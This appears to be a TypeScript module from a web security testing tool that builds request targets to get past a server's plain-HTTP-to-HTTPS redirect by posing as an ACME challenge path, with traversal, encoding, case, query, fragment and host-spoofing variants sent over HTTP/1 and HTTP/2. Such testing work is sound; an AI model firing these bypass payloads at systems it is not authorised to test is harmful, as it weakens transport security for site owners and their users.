import { byLines, spoofedValues, http2Request, type At, type Attempt } from "../attempt";
import { pseudo } from "./targets";

/**
 * How to get round the redirect of plain http: where a certificate authority's challenge is let through, a target that looks like one to the
 * front end and like something else behind it is served without TLS.
 */

const challenge = "/.well-known/acme-challenge";

const targets: readonly (readonly [name: string, target: (at: At) => string])[] = [
  ["dot segments", ({ path }) => `${challenge}/../..${path}`],
  ["dot segments behind a token", ({ path }) => `${challenge}/token/../../..${path}`],
  ["encoded dots", ({ path }) => `${challenge}/%2e%2e/%2E%2E${path}`],
  ["encoded slashes", ({ path }) => `${challenge}/..%2f..${path}`],
  ["backslashes", ({ path }) => `${challenge}/..\\..${path}`],
  ["doubled slashes", ({ path }) => `${challenge}//..//..${path}`],
  ["parameters of segments", ({ path }) => `${challenge}/..;/..;${path}`],
  ["a longer path", ({ path }) => `${challenge}/token${path}`],
  ["a name that begins alike", ({ path }) => `${challenge}-spoofed${path}`],
  ["an encoded letter", ({ path }) => `/.well-known/%61cme-challenge/../..${path}`],
  ["upper case", ({ path }) => `${challenge.toUpperCase()}/../..${path}`],
  ["the challenge in the query", ({ path }) => `${path}${path.includes("?") ? "&" : "?"}${challenge}/token`],
  ["the challenge in a fragment", ({ path }) => `${path}#${challenge}/token`],
];

export const redirectAttacks: readonly Attempt[] = [
  ...targets.map(([name, target]): Attempt => ({
    ...byLines("past the redirect", name, (at) => ({ target: target(at) })),
    http2: (at) => http2Request(at, [], { pseudo: pseudo(at, { ":path": target(at) }) }),
  })),
  byLines("past the redirect", "an absolute target", (at) => ({
    target: `${at.scheme}://${at.host}${challenge}/../..${at.path}`,
  })),
  byLines("past the redirect", "the challenge as the target's host", (at) => ({
    target: `${at.scheme}://${spoofedValues.host}${challenge}${at.path}`,
  })),
];
